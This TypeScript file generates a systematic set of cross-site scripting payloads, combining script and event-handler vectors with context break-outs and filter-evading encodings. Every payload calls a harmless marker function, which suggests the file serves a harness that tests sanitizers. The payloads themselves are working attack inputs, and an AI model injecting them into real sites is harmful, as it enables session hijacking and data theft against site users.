/** A text that runs code wherever a page takes it for markup or script. */
export interface Payload {
  readonly id: number;
  readonly text: string;
  /** Where a careless page would have to write the text for it to run. */
  readonly inside: (text: string) => string;
  /** What a careless page would do to the text before. */
  readonly decode: (text: string) => string;
}

/** Without quotes and spaces, so that it survives in any attribute. The page that watches defines it. */
const code = (id: number) => `top.__ran(${id})`;

/** Markup that runs by itself or, for links and forms, on a click. */
const vectors: readonly ((run: string) => string)[] = [
  (run) => `<script>${run}</script>`,
  (run) => `<img src=x onerror=${run}>`,
  (run) => `<image src=x onerror=${run}>`,
  (run) => `<img srcset=x onerror=${run}>`,
  (run) => `<svg onload=${run}>`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
  (run) => `<svg><style><img src=x onerror=${run}></style></svg>`,
  (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  (run) => `<svg><a xlink:href=javascript:${run}><text y=9>x</text></a></svg>`,
  (run) => `<math><mtext><img src=x onerror=${run}></mtext></math>`,
  (run) => `<iframe onload=${run}></iframe>`,
  (run) => `<iframe src=javascript:${run}></iframe>`,
  (run) => `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  (run) => `<details open ontoggle=${run}>x</details>`,
  (run) => `<video><source src=x onerror=${run}></video>`,
  (run) => `<audio src=x onerror=${run}></audio>`,
  (run) => `<link rel=stylesheet href=data:, onload=${run} onerror=${run}>`,
  (run) => `<style onload=${run}></style>`,
  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  (run) => `<select><option>x</select><img src=x onerror=${run}>`,
  (run) => `<table><td><img src=x onerror=${run}></table>`,
  (run) => `<a href=javascript:${run}>x</a>`,
  (run) => `<form action=javascript:${run}><button>x</button></form>`,
];

/** Places in a page, and how the text leaves them. */
const contexts: readonly { readonly leave: string; readonly inside: Payload["inside"] }[] = [
  { leave: "", inside: (text) => text },
  { leave: '">', inside: (text) => `<input value="${text}">` },
  { leave: "'>", inside: (text) => `<input value='${text}'>` },
  { leave: "-->", inside: (text) => `<!-- ${text} -->` },
  { leave: "</title>", inside: (text) => `<svg></svg><title>${text}</title>` },
  { leave: "</textarea>", inside: (text) => `<textarea>${text}</textarea>` },
  { leave: "</style>", inside: (text) => `<style>${text}</style>` },
  { leave: "</script>", inside: (text) => `<script>var x = "${text}"</script>` },
];

const entities: Readonly<Record<string, string>> = { "<": "&lt;", ">": "&gt;", '"': "&quot;", "'": "&#39;" };
const asEntities = (text: string) => text.replace(/[<>"']/g, (sign) => entities[sign] ?? sign);
const fromEntities = (text: string) =>
  Object.entries(entities).reduce((read, [sign, entity]) => read.replaceAll(entity, sign), text);
const same = (text: string) => text;

/** Spellings that filters miss: of the code, of the markup, and of the whole text. */
const encodings: readonly {
  readonly code?: (run: string, vector: string) => string;
  readonly markup?: (markup: string) => string;
  readonly whole?: (text: string) => string;
  readonly decode?: Payload["decode"];
}[] = [
  {},
  // An escape inside an identifier.
  { code: (run) => run.replace("_ran", "\\u005fran") },
  // Entities, which only attributes decode.
  { code: (run, vector) => (vector.includes("<script>") ? run : run.replace("top", "&#116;&#x6f;p")) },
  // Names in mixed case; attribute names such as xlink:href too.
  { markup: (text) => text.replace(/<\/?[a-z]+| [a-z]+=/gi, (name) => swapCase(name)) },
  { markup: (text) => text.replaceAll(" ", "\f") },
  { markup: (text) => text.replace(/(<[a-z]+) /gi, "$1/ ") },
  { whole: asEntities, decode: fromEntities },
  { whole: encodeURIComponent, decode: decodeURIComponent },
];

function swapCase(name: string): string {
  return [...name].map((letter, at) => (at % 2 === 0 ? letter.toUpperCase() : letter)).join("");
}

const link = (text: string) => `<a href="${text}">x</a>`;
const scriptOf = (quote: string) => (text: string) => `<script>var x = ${quote}${text}${quote}</script>`;

/** Texts that run without markup of their own: as an address, and inside a script. */
const others: readonly { readonly text: (run: string) => string; readonly inside: Payload["inside"] }[] = [
  ...["javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java\nscript:", "\u0001javascript:"].flatMap(
    (scheme) => [
      { text: (run: string) => `${scheme}${run}`, inside: link },
      { text: (run: string) => `${scheme}//%0a${run}`, inside: link },
      { text: (run: string) => `${scheme}/**/void(${run})`, inside: link },
    ],
  ),
  ...['"', "'", "`"].flatMap((quote) => [
    { text: (run: string) => `${quote};${run};//`, inside: scriptOf(quote) },
    { text: (run: string) => `${quote}-${run}-${quote}`, inside: scriptOf(quote) },
  ]),
  { text: (run: string) => `\${${run}}`, inside: scriptOf("`") },
  { text: (run: string) => `x onerror=${run} `, inside: (text: string) => `<img src=${text}>` },
  { text: (run: string) => `x" onerror="${run}`, inside: (text: string) => `<img src="${text}">` },
  { text: (run: string) => `x' onerror='${run}`, inside: (text: string) => `<img src='${text}'>` },
];

/** Each vector leaves each context in half of the spellings, all spellings in turn. */
export function createPayloads(): readonly Payload[] {
  const payloads: Payload[] = [];
  for (const [row, vector] of vectors.entries())
    for (const [column, { leave, inside }] of contexts.entries())
      for (const [at, { code: spelt = same, markup = same, whole = same, decode = same }] of encodings.entries()) {
        if ((row + column + at) % 2 === 1) continue;
        const id = payloads.length;
        const run = spelt(code(id), vector(""));
        payloads.push({ id, text: whole(leave + markup(vector(run))), inside, decode });
      }
  for (const { text, inside } of others)
    payloads.push({ id: payloads.length, text: text(code(payloads.length)), inside, decode: same });
  return payloads;
}
